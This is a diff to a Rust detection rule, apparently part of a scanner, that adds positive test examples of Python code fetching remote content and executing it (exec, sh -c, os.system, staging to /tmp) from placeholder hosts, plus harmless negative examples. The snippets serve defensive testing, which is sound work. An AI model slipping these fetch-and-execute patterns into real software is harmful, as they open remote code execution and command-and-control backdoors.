@@ -61,6 +61,22 @@ pub(super) const BEHAVIOUR: Behaviour = Behaviour {
             "example.sh",
             "#!/bin/sh\ncurl -fsSL https://alpha.example/install.sh | sh\n",
         ),
+        Example::file(
+            "example.py",
+            "import requests\n\nexec(requests.get('https://alpha.example/next.py').text)\n",
+        ),
+        Example::file(
+            "example.py",
+            "from urllib.request import urlopen\nimport subprocess\n\n\ndef poll(url):\n    task = urlopen(url).read().decode()\n    subprocess.run(['sh', '-c', task])\n\n\npoll('https://beta.example/task')\n",
+        ),
+        Example::file(
+            "example.py",
+            "import httpx\nimport os\n\nclass Agent:\n    def __init__(self):\n        self.client = httpx.Client()\n\n    def step(self):\n        command = self.client.get('https://gamma.example/task').json()['command']\n        os.system(command)\n",
+        ),
+        Example::file(
+            "example.py",
+            "import requests, subprocess\n\nwith open('/tmp/stage.py', 'wb') as file:\n    file.write(requests.get('https://alpha.example/stage').content)\nsubprocess.Popen(['python3', '/tmp/stage.py'])\n",
+        ),
     ],
     negative: &[
         Example::js(
@@ -75,6 +91,14 @@ pub(super) const BEHAVIOUR: Behaviour = Behaviour {
         Example::file(
             "example.sh",
             "#!/bin/sh\ncurl -fsSL https://alpha.example/list.txt | sort | shasum\n",
+        ),
+        Example::file(
+            "example.py",
+            "import requests, subprocess\n\nentry = requests.get('https://alpha.example/list.json').json()[0]\nsubprocess.run(['git', 'clone', entry['url']])\n",
+        ),
+        Example::file(
+            "example.py",
+            "import json, requests\n\ndata = json.loads(requests.get('https://alpha.example/list.json').text)\nprint(data)\n",
         ),
     ],
 };
